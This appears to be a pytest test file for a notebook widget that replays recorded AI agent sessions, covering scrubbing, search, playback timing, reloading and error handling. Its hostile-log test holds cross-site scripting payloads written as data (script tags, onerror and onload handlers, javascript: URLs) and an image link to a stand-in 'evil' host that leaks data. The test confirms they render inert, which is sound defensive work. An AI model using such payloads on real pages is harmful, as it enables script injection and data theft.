"""The replay widget driven through its widget state in-process, on logs from real runs and hand-written hostile logs."""

from __future__ import annotations

import os
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import anthropic
import ipywidgets as widgets
import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell

import nbagent
from nbagent.errors import LogCorruptError, LogVersionError, NbagentError
from nbagent.notebook import magics as nbmagics
from nbagent.notebook.replay import Replay, load_events
from nbagent.record import line_codec
from nbagent.render import html, style
from nbagent.render.parts import gap, when
from nbagent.render.rows import ToolCalls
from nbagent.render.timeline import REPLAY_STYLE
from nbagent.stores import folders as store
from tests.render.test_render import without_our_styles
from tests.support.fake_anthropic import FakeAnthropic, text, tool_use

T0 = 1_790_000_000.0  # a fixed moment for hand-written logs


@nbagent.tool
def add(a: int, b: int) -> int:
    """Add two numbers."""
    return a + b


def recorded(fake: FakeAnthropic, client: anthropic.Anthropic, path: Path) -> Path:
    """A two-turn session from a real run: a streamed tool call, its result, two streamed answers."""
    fake.script(
        tool_use("add", {"a": 2, "b": 3}, text="Let me add."),
        text("The sum is **5**."),
        text("A second answer, streamed in pieces.", chunks=6),
    )
    model = nbagent.AnthropicModel("claude-test", client=client)
    with nbagent.Session.open(path) as session:
        # delta_interval=0: a line per delta, as a stream slower than the coalescing interval writes them
        nbagent.Loop(session, tools=[add], model=model, delta_interval=0).run("what is 2+3?")
        nbagent.Loop(session, tools=[add], model=model, delta_interval=0).run("and now?")
    return path


def write_log(path: Path, records: list[dict[str, Any]]) -> Path:
    """A log of exactly these records (checksummed like real ones), whatever they contain."""
    with open(path, "wb") as out:
        for seq, record in enumerate(records, 1):
            line, _ = line_codec.encode({"v": 1, "seq": seq, "ts": T0 + seq, **record})
            out.write(line)
    return path


def timed_log(path: Path, gaps: list[float]) -> Path:
    """A log of one user message then notes, ``gaps`` seconds apart."""
    lines, ts = [], T0
    records = [{"type": "session_start", "session_id": "s1"}, {"type": "user_msg", "content": "go"}]
    records += [{"type": "note", "text": f"note {i}"} for i in range(len(gaps) - 1)]
    with open(path, "wb") as out:
        for seq, (record, gap) in enumerate(zip(records, [0.0, *gaps]), 1):
            ts += gap
            line, _ = line_codec.encode({"v": 1, "seq": seq, "ts": ts, **record})
            lines.append(line)
            out.write(line)
    return path


def wait_for(condition: Any, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "condition not reached"
        time.sleep(0.01)


def html_values(replay: Replay) -> list[str]:
    """Every HTML string the replay's widgets show now."""
    pending, found = [replay.widget], []
    while pending:
        widget = pending.pop()
        pending.extend(getattr(widget, "children", ()))
        if isinstance(widget, widgets.HTML):
            found.append(widget.value)
    return found


def test_scrubbing_shows_each_event_as_the_live_panel_rendered_it(fake, client, tmp_path) -> None:
    path = recorded(fake, client, tmp_path / "s.jsonl")
    requests = len(fake.requests)
    events = list(nbagent.read_events(path))
    replay = Replay.from_path(path)
    assert replay.slider.min == 1 and replay.slider.max == len(events)
    assert "Session <b>what is 2+3?</b>" in replay.transcript.value and "2 turns" in replay.transcript.value  # the first frame
    assert "started" not in replay.transcript.value and events[0]["session_id"] not in replay.transcript.value
    assert "what is 2+3?" in replay.header.value and "read-only" in replay.header.value
    assert replay.position.value == '<div class="nbagent-position">before the first turn</div>'  # no times until asked
    replay.times.value = True

    names = ToolCalls.of_events(events)  # the calls' names and inputs, as the live panel knew them
    for number, event in enumerate(events, 1):
        replay.slider.value = number
        assert replay.index == number - 1
        position = replay.position.value
        assert f"event {number} of {len(events)}" in position and event["type"] in position
        assert when(event["ts"], ms=True) in position
        fragment = html.event_html(event, tool_names=names)
        if fragment:
            assert fragment in replay.transcript.value
        if number > 1:
            assert gap(event["ts"] - events[number - 2]["ts"]) in position

    # Mid-stream the transcript shows the text streamed so far; the finished message replaces it.
    last_answer = max(i for i, e in enumerate(events) if e["type"] == "assistant_msg")
    deltas = [i for i, e in enumerate(events) if e["type"] == "delta" and i < last_answer]
    replay.go(deltas[-2])
    assert "now</span> streaming" in replay.transcript.value and "turn 2 of 2" in replay.position.value
    assert "A second answer" in replay.transcript.value and "pieces." not in replay.transcript.value
    replay.go(last_answer)
    assert replay.transcript.value.count("A second answer") == 1 and "pieces." in replay.transcript.value
    assert "now</span> done" in replay.transcript.value and " out" in replay.transcript.value
    assert len(fake.requests) == requests  # replaying called no model


def test_previous_and_next_turn_buttons(fake, client, tmp_path) -> None:
    path = recorded(fake, client, tmp_path / "s.jsonl")
    events = list(nbagent.read_events(path))
    turns = [i for i, e in enumerate(events) if e["type"] == "user_msg"]
    replay = Replay.from_path(path)
    assert replay.prev_button.disabled and not replay.next_button.disabled
    replay.next_button.click()
    assert replay.index == turns[0]
    replay.next_button.click()
    assert replay.index == turns[1] and "and now?" in replay.transcript.value and replay.turns.value == 2
    replay.next_button.click()  # no later turn: the last event
    assert replay.index == len(events) - 1 and replay.next_button.disabled
    replay.prev_button.click()
    assert replay.index == turns[1]
    replay.go(turns[1] + 2)
    replay.prev_button.click()  # inside a turn, "previous" first goes to this turn's start (as a player's "previous track")
    assert replay.index == turns[1]
    replay.prev_button.click()
    assert replay.index == turns[0]
    replay.prev_button.click()
    assert replay.index == 0 and replay.prev_button.disabled


def test_search_lists_matching_events_and_jumps_to_them(fake, client, tmp_path) -> None:
    path = recorded(fake, client, tmp_path / "s.jsonl")
    events = list(nbagent.read_events(path))
    replay = Replay.from_path(path)
    replay.search.value = "SUM"
    [match] = replay.found
    assert events[match]["type"] == "assistant_msg" and "The sum is" in str(events[match]["content"])
    assert replay.match_count.value == "1 matching event"
    assert replay.matches.widget.layout.display is None and replay.index == 0  # listing does not jump by itself
    assert [row.layout.display for row in replay.matches.rows[:2]] == [None, "none"]
    assert replay.matches.snippets[0].value == (
        '<span class="nbagent-replay-hit"><span class="nbagent-hit-turn">Turn 1</span> <span class="nbagent-dim">reply:</span> '
        'The <mark class="nbagent-hit">sum</mark> is **5**.</span>'
    )
    replay.matches.buttons[0].click()
    assert replay.index == match and "<strong>5</strong>" in replay.transcript.value

    replay.search.value = "add"  # the reply with the call (its name and input), found once
    [call] = replay.found
    assert "Let me <mark" in replay.matches.snippets[0].value and replay.matches.rows[1].layout.display == "none"
    replay.search.value = "AN"  # the second request and the second answer (not its deltas)
    assert len(replay.found) == 2 and all(events[i]["type"] != "delta" for i in replay.found)
    assert [events[i]["type"] for i in replay.found] == ["user_msg", "assistant_msg"]
    assert (
        'Turn 2</span> <span class="nbagent-dim">request:</span> <mark class="nbagent-hit">an</mark>d now?'
        in replay.matches.snippets[0].value
    )
    replay.go(replay.found[0])
    replay.next_match_button.click()
    assert replay.index == replay.found[1]
    replay.go(len(events) - 1)
    replay.next_match_button.click()  # wraps around
    assert replay.index == replay.found[0]

    replay.search.value = "no such words"
    assert replay.found == [] and replay.match_count.value == "0 matching events" and replay.next_match_button.disabled
    replay.search.value = ""
    assert replay.matches.widget.layout.display == "none" and replay.match_count.value == ""


def test_timestamps_gaps_and_compressed_playback_time(tmp_path) -> None:
    replay = Replay.from_path(timed_log(tmp_path / "t.jsonl", [0.25, 3600.0, 1.5, 0.0]))
    assert replay.timeline.play_times == [0.0, 0.25, 2.25, 3.75, 3.75]
    assert "quiet gaps longer than 2 s play as 2 s" in replay.header.value
    replay.slider.value = 3
    assert "after the previous event" not in replay.position.value and "#3 · " not in replay.transcript.value  # on demand
    replay.times.value = True
    assert "+1 h 0 min after the previous event (plays as 2 s)" in replay.position.value
    replay.slider.value = 2
    assert "+0.250 s after the previous event" in replay.position.value and "plays as" not in replay.position.value
    assert "#2 · " + when(T0 + 0.25, date=False, ms=True) + " · +0.250 s" in replay.transcript.value
    assert [gap(s) for s in (0.004, 1.5, 200, 7500, 3 * 86400 + 4 * 3600)] == [
        "+0.004 s",
        "+1.5 s",
        "+3 min 20 s",
        "+2 h 5 min",
        "+3 d 4 h",
    ]


def test_play_runs_in_the_background_and_pause_stops_it(tmp_path) -> None:
    replay = Replay.from_path(timed_log(tmp_path / "t.jsonl", [0.001] * 30))
    seen: list[int] = []
    replay.slider.observe(lambda change: seen.append(change["new"]), "value")
    replay.speed.value = 20.0
    replay.play_button.click()
    assert (replay.play_button.description, replay.play_button.icon) == (
        "Pause",
        "pause",
    )  # click returned at once: playback is on another thread
    wait_for(lambda: not replay.playing)
    assert replay.index == len(replay.events) - 1 and (replay.play_button.description, replay.play_button.icon) == ("Play", "play")
    assert seen == sorted(seen) and seen[-1] == len(replay.events)

    # Long gaps (compressed to 2 s each): pause while playing; nothing moves after pause returns.
    slow = Replay.from_path(timed_log(tmp_path / "slow.jsonl", [3600.0] * 10))
    slow.play()
    thread = slow._thread
    assert slow.playing and thread is not None and thread.is_alive()
    slow.pause()
    assert not slow.playing and not thread.is_alive() and slow.play_button.description == "Play"
    assert slow.index < len(slow.events) - 1

    # Scrubbing while playing: playback goes on from the new place, never back.
    moved: list[int] = []
    fast = Replay.from_path(timed_log(tmp_path / "fast.jsonl", [3600.0] * 12))
    fast.slider.observe(lambda change: moved.append(change["new"]), "value")
    fast.speed.value = 20.0  # 0.1 s per compressed gap
    fast.play()
    fast.slider.value = 9
    wait_for(lambda: not fast.playing)
    assert moved[moved.index(9) :] == sorted(moved[moved.index(9) :]) and fast.index == len(fast.events) - 1

    # At the end, play starts over; "instant" shows the last event at once.
    fast.speed.value = float("inf")
    fast.play_button.click()
    assert fast.index == len(fast.events) - 1 and not fast.playing


def test_playback_of_a_long_stream_is_rate_limited(tmp_path) -> None:
    records: list[dict[str, Any]] = [{"type": "session_start", "session_id": "s"}, {"type": "user_msg", "content": "go"}]
    records += [{"type": "model_call", "attempt": 1}]
    records += [{"type": "delta", "index": 0, "text": "word "} for _ in range(2000)]
    records += [{"type": "assistant_msg", "content": [{"type": "text", "text": "word " * 2000}], "stop_reason": "end_turn"}]
    path = tmp_path / "long.jsonl"
    with open(path, "wb") as out:
        for seq, record in enumerate(records, 1):
            out.write(line_codec.encode({"v": 1, "seq": seq, "ts": T0 + seq * 0.001, **record})[0])
    replay = Replay.from_path(path)
    moves: list[int] = []
    replay.slider.observe(lambda change: moves.append(change["new"]), "value")
    replay.speed.value = 5.0  # 2 s of stream in 0.4 s
    replay.play()
    wait_for(lambda: not replay.playing)
    print(f"2,004 events played at 5x with {len(moves)} slider moves and {replay.widget_updates} widget updates")
    assert replay.index == len(records) - 1
    assert len(moves) < 100  # at most one move per frame (20 a second), not one per delta
    assert replay.transcript.value.count("word") == 2000


HOSTILE = [
    {"type": "session_start", "session_id": "<script>alert(1)</script>", "meta": {"notebook": "<img src=x onerror=alert(2)>"}},
    {"type": "user_msg", "content": "<script>alert('user')</script><img src=x onerror=alert(3)>"},
    {"type": "model_call", "model": "<b onmouseover=alert(4)>", "attempt": 2},
    {"type": "delta", "index": 0, "text": "<script>alert('delta')</script>"},
    {
        "type": "assistant_msg",
        "content": [
            {"type": "text", "text": "[click](javascript:alert(5)) <iframe src=x></iframe> ![img](http://evil/leak?d=1)"},
            {"type": "tool_use", "id": "t1", "name": "python<script>", "input": {"code": "open(MARKER, 'w').write('ran')"}},
        ],
        "stop_reason": "tool_use",
    },
    {"type": "tool_started", "tool_use_id": "t1", "name": "<svg onload=alert(6)>", "effect": "write"},
    # ... and no tool_result: the call dangles, as after a crash.
    {"type": "tool_result", "tool_use_id": "zz", "content": [{"type": "image", "source": {"type": "url", "url": "javascript:alert(7)"}}]},
    {"type": "approval", "decision": "<script>x</script>", "by": "<img onerror=1>", "note": "<style>*{}</style>"},
    {"type": "note", "text": "<a href='javascript:alert(8)'>x</a>"},
]  # (an event of an unknown type is refused by the reader; tests/render/test_timeline.py shows one anyway)
ACTIVE_TAGS = {"script", "iframe", "svg", "img", "style", "object", "embed", "math", "template", "link", "meta", "form"}


class ActiveParts(HTMLParser):
    """Collects what in an HTML string a browser would act on: active tags, event handlers, script URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith(("javascript:", "data:text")):
                self.found.append(f"{tag} {name}={value}")


def active_parts(fragment: str) -> list[str]:
    parser = ActiveParts()
    parser.feed(without_our_styles(fragment).replace(REPLAY_STYLE, ""))
    return parser.found


def test_hostile_payloads_and_a_dangling_call_stay_inert(fake, tmp_path, monkeypatch) -> None:
    marker = tmp_path / "ran.txt"
    monkeypatch.chdir(tmp_path)
    records = [dict(r) for r in HOSTILE]
    records[4]["content"][1]["input"]["code"] = f"open({str(marker)!r}, 'w').write('ran')"
    path = write_log(tmp_path / "hostile.jsonl", records)
    before = path.read_bytes()
    replay = Replay.from_path(path)
    shown: list[str] = []
    for number in range(1, len(records) + 1):
        replay.slider.value = number
        shown += html_values(replay)
    replay.search.value = "script"
    assert replay.found  # the hostile text is searchable as text
    shown += [replay.static_bundle()["text/html"], replay.bundle()["text/plain"]]
    for value in shown:
        assert active_parts(value) == [], value
    assert "&lt;script&gt;alert(&#x27;user&#x27;)&lt;/script&gt;" in "".join(shown)  # shown as text, not run
    replay.go(0)
    replay.speed.value = float("inf")
    replay.play()
    assert replay.index == len(records) - 1
    assert not marker.exists() and fake.requests == []  # nothing executed, no model called
    assert path.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["hostile.jsonl"]


@pytest.mark.parametrize("content", [{"not": "a list"}, ["<script>alert(9)</script>"]], ids=["not-blocks", "string-blocks"])
def test_a_checksummed_but_malformed_event_is_refused_as_damage(tmp_path, content) -> None:
    records = [dict(r) for r in HOSTILE[:2]] + [{"type": "assistant_msg", "content": content}]
    path = write_log(tmp_path / "malformed.jsonl", records)
    with pytest.raises(LogCorruptError, match="line 3"):
        Replay.from_path(path)


def test_a_log_another_session_is_writing_can_be_replayed_and_reloaded(tmp_path) -> None:
    path = tmp_path / "live.jsonl"
    with nbagent.Session.open(path) as session:  # holds the log's lock, as another kernel would
        session.append("user_msg", content="first request")
        replay = Replay.from_path(path)
        assert len(replay.events) == 2
        replay.slider.value = 2
        session.append("model_call", attempt=1)
        session.append("assistant_msg", content=[{"type": "text", "text": "first answer"}], stop_reason="end_turn")
        with open(path, "ab") as tail:
            tail.write(b'{"v":1,"seq":5,"ts":1,"type":"user_msg","content":"half a li')  # a write in progress
        size = path.stat().st_size
        replay.reload_button.click()
        assert len(replay.events) == 4 and replay.slider.max == 4 and replay.index == 1  # the position is kept
        replay.slider.value = 4
        assert "first answer" in replay.transcript.value
        assert path.stat().st_size == size  # the unfinished line was neither repaired nor cut
        assert not list(tmp_path.glob("*.torn-*"))


def test_load_errors_say_what_is_wrong(tmp_path) -> None:
    good = [{"type": "session_start", "session_id": "s"}, {"type": "user_msg", "content": "hi"}, {"type": "note", "text": "x"}]
    corrupt = write_log(tmp_path / "corrupt.jsonl", good)
    lines = corrupt.read_bytes().split(b"\n")
    lines[1] = lines[1].replace(b"hi", b"ho")
    corrupt.write_bytes(b"\n".join(lines))
    with pytest.raises(LogCorruptError, match="damaged"):
        load_events(corrupt)
    newer = tmp_path / "newer.jsonl"
    newer.write_bytes(line_codec.encode({"v": 9, "seq": 1, "ts": T0, "type": "session_start", "session_id": "s"})[0])
    with pytest.raises(LogVersionError, match="schema v9"):
        load_events(newer)
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    with pytest.raises(NbagentError, match="nothing to replay"):
        Replay.from_path(empty)


# The magic, in a real in-process IPython shell ----------------------------------------------------------------
def usage_error(ip: InteractiveShell, code: str) -> str:
    result = ip.run_cell(code)
    assert isinstance(result.error_in_exec, UsageError), result.error_in_exec
    return str(result.error_in_exec)


def test_magic_replays_by_default_the_latest_session_by_name_or_by_path(shell, fake, client, tmp_path, capsys) -> None:
    folder = tmp_path / ".nbagent" / "untitled"
    folder.mkdir(parents=True)
    first = recorded(fake, client, folder / "older.jsonl")
    fake.script(text("only answer"))
    with nbagent.Session.open(folder / "newer.jsonl") as session:
        nbagent.run(session, "the newer request", client=client, model="claude-test")
    os.utime(first, (T0, T0))  # make "older" the older one
    requests = len(fake.requests)
    capsys.readouterr()
    assert shell.run_cell("%agent_replay").success
    replay = nbmagics.magics_for(shell).replay
    assert replay.source == str(folder / "newer.jsonl")
    assert "the newer request" in capsys.readouterr().out  # the static text/plain fallback
    assert shell.run_cell("%agent_replay older").success
    assert nbmagics.magics_for(shell).replay.source == str(first)
    out = capsys.readouterr().out
    assert "Replay: what is 2+3?" in out and "The sum is **5**." in out
    outside = recorded(fake, client, tmp_path / "elsewhere.jsonl")
    assert shell.run_cell(f"%agent_replay {outside}").success
    assert nbmagics.magics_for(shell).replay.source == str(outside)
    assert len(fake.requests) == requests + 3  # only the recording above called the model


def test_magic_user_mistakes_are_usage_errors_and_change_nothing(shell, tmp_path) -> None:
    assert "No agent sessions in" in usage_error(shell, "%agent_replay")
    folder = tmp_path / ".nbagent" / "untitled"
    folder.mkdir(parents=True)
    write_log(folder / "kept.jsonl", [{"type": "session_start", "session_id": "s"}])
    message = usage_error(shell, "%agent_replay nosuch")
    assert "No session named 'nosuch'" in message and "kept" in message
    assert "No session log at" in usage_error(shell, "%agent_replay missing/dir/log.jsonl")
    assert "No session log at ../escape" in usage_error(shell, "%agent_replay ../escape")
    assert "not a valid session name" in usage_error(shell, "%agent_replay bad name")
    corrupt = write_log(
        tmp_path / "corrupt.jsonl",
        [{"type": "session_start", "session_id": "s"}, {"type": "user_msg", "content": "hi"}, {"type": "note", "text": "x"}],
    )
    corrupt.write_bytes(corrupt.read_bytes().replace(b'"hi"', b'"ho"'))
    newer = tmp_path / "newer.jsonl"
    newer.write_bytes(line_codec.encode({"v": 9, "seq": 1, "ts": T0, "type": "session_start", "session_id": "s"})[0])
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    before = {p: p.read_bytes() for p in (corrupt, newer, empty)}
    assert "is damaged" in usage_error(shell, f"%agent_replay {corrupt}")
    assert "schema v9" in usage_error(shell, f"%agent_replay {newer}")
    assert "nothing to replay" in usage_error(shell, f"%agent_replay {empty}")
    assert {p: p.read_bytes() for p in before} == before
    assert not list(tmp_path.glob("*.torn-*"))
    assert [s.name for s in store.list_sessions(folder)] == ["kept"]


def test_the_output_is_a_static_summary_that_the_mounted_widget_hides(fake, client, tmp_path) -> None:
    replay = Replay.from_path(recorded(fake, client, tmp_path / "s.jsonl"))
    key = replay.display_id
    static = replay.static_bundle()
    assert (
        style.sibling_style(key) in static["text/html"] and f'class="nbagent nbagent-static-{key} {style.NO_MATH}"' in static["text/html"]
    )
    assert {"nbagent", f"nbagent-live-{key}"} <= set(replay.widget._dom_classes)
    assert "2 turns" in static["text/html"] and "what is 2+3?" in static["text/html"]  # the summary, the transcript folded
    assert static["text/plain"].startswith("Re-run this cell to replay it interactively.\n") and "The sum is **5**." in static["text/plain"]
    assert set(replay.bundle()) == {"application/vnd.jupyter.widget-view+json", "text/plain"}  # no second copy of the transcript
    # The rules name this output and the widget's: the live widget hides the summary, a missing one is hidden.
    assert f".jp-OutputArea:has(.nbagent-live-{key}) .jp-OutputArea-child:has(.nbagent-static-{key})" in static["text/html"]
    assert f".jp-OutputArea-child:has(.nbagent-static-{key})+.jp-OutputArea-child:not(:has(.nbagent-live-{key}))" in static["text/html"]
